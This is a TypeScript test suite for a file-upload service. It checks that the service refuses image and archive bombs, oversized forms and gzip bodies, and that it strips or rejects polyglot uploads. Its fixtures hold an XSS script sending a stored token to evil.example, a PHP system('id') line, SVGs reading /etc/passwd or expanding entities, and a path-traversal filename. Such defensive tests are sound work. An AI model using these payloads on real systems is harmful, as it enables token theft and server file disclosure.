import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { call } from './calls.ts';
import { addUser } from './records.ts';

let token = '';

beforeAll(async () => {
  ({ token } = await addUser({ roles: ['Administrator'] }));
});

async function upload(bytes: Uint8Array<ArrayBuffer>, name = 'x.png', type = 'image/png') {
  const form = new FormData();
  form.set('file', new File([bytes], name, { type }));
  return call('POST', '/files/upload', { token, form });
}

/** An AVIF that claims a size. */
async function avif(width: number, height: number): Promise<Uint8Array<ArrayBuffer>> {
  const bytes = await sharp({ create: { width: 64, height: 64, channels: 3, background: 'teal' } })
    .avif()
    .toBuffer();
  const size = bytes.indexOf('ispe') + 8;
  bytes.writeUInt32BE(width, size);
  bytes.writeUInt32BE(height, size + 4);
  return new Uint8Array(bytes);
}

/** One chunk of a PNG: length, name, content, checksum. */
function chunk(name: string, content: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(checksumOf(named));
  return Buffer.concat([length, named, checksum]);
}

function checksumOf(bytes: Uint8Array): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** Of a PNG's header: bits, color, compression, filter, interlacing. */
const GRAY = [8, 0, 0, 0, 0];
const INTERLACED_RGBA_16 = [16, 6, 0, 0, 1];

/** A PNG that claims a size, with other chunks before its few pixels. */
function png(
  width: number,
  height: number,
  { kind = GRAY, others = [] as Buffer[] } = {},
): Uint8Array<ArrayBuffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set(kind, 8);
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', header),
      ...others,
      chunk('IDAT', deflateSync(Buffer.alloc(Math.min(height, 100) * (Math.min(width, 100) + 1)))),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

describe('an upload that is a bomb', () => {
  it.each([
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [65_535, 65_535],
    [30_000, 30_000],
    [50_000_001, 1],
    [0, 0],
  ])('a picture that claims %i × %i is refused by its head', async (width, height) => {
    expect([413, 415]).toContain((await upload(png(width, height))).status);
  });

  it('a picture is refused by its head when its decoder would take the memory of the process', async () => {
    const message =
      'The image is too large to be read as it is. Please save it smaller, or as a plain JPEG.';
    for (const bytes of [png(7000, 7000, { kind: INTERLACED_RGBA_16 }), await avif(5000, 5000)]) {
      const { status, body } = await upload(bytes);
      expect([status, body]).toEqual([413, { message, code: 'body_too_large' }]);
    }
  });

  it('a picture with 200 MB folded into its comments costs no such memory', async () => {
    const folded = Buffer.concat([
      Buffer.from('Comment\0\0', 'latin1'),
      deflateSync(Buffer.alloc(200_000_000), { level: 9 }),
    ]);
    const before = process.memoryUsage().rss;
    const { status } = await upload(png(16, 16, { others: [chunk('zTXt', folded)] }));
    expect([201, 415]).toContain(status);
    expect(process.memoryUsage().rss - before).toBeLessThan(150_000_000);
  });

  it('a packed body is not unpacked', async () => {
    const packed = gzipSync(JSON.stringify({ email: 'a@example.com', password: 'x' }));
    const answer = await call('POST', '/login', {
      body: packed.toString('latin1'),
      headers: { 'content-encoding': 'gzip' },
    });
    expect([answer.status, answer.body]).toMatchObject([400, { code: 'malformed_body' }]);
  });

  it('a form of thousands of parts is no larger than a file may be', async () => {
    const form = new FormData();
    for (let part = 0; part < 60_000; part += 1) form.append(`part-${part}`, 'x');
    expect((await call('POST', '/files/upload', { token, form })).status).toBe(413);
  });
});

describe('an upload that is two things at once', () => {
  const SCRIPT = '<script>fetch("https://evil.example/"+localStorage.token)</script>';

  it.each(['jpeg', 'png', 'webp'] as const)(
    'a %s with a script in and after it is stored without',
    async (format) => {
      const picture = await sharp({
        create: { width: 64, height: 64, channels: 3, background: 'teal' },
      })
        .withExifMerge({ IFD0: { ImageDescription: SCRIPT, Artist: '<?php system("id") ?>' } })
        .toFormat(format)
        .toBuffer();
      const bytes = new Uint8Array(Buffer.concat([picture, Buffer.from(SCRIPT)]));
      const answer = await upload(bytes, '../../x.html', 'text/html');
      expect(answer.status).toBe(201);
      const shown = await call(
        'GET',
        `/files/display/${(answer.body as { imageId: string }).imageId}`,
      );
      expect(shown.headers.get('content-type')).toBe('image/webp');
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
      expect((shown.body as Buffer).toString('latin1')).not.toMatch(/script|php|evil/);
    },
  );

  it.each([
    ['SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
    ['SVG that reads a file', '<svg><image href="file:///etc/passwd"/></svg>'],
    [
      'SVG that explodes',
      '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg><text>&b;</text></svg>',
    ],
    ['HTML that begins as a GIF', `GIF89a/*${SCRIPT}*/`],
    ['PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'],
    ['zip', 'PK\u0003\u0004'],
    ['text that names a file', '@/etc/passwd'],
  ])('%s is refused', async (_, text) => {
    expect((await upload(new Uint8Array(Buffer.from(text)), 'x.png')).status).toBe(415);
  });
});
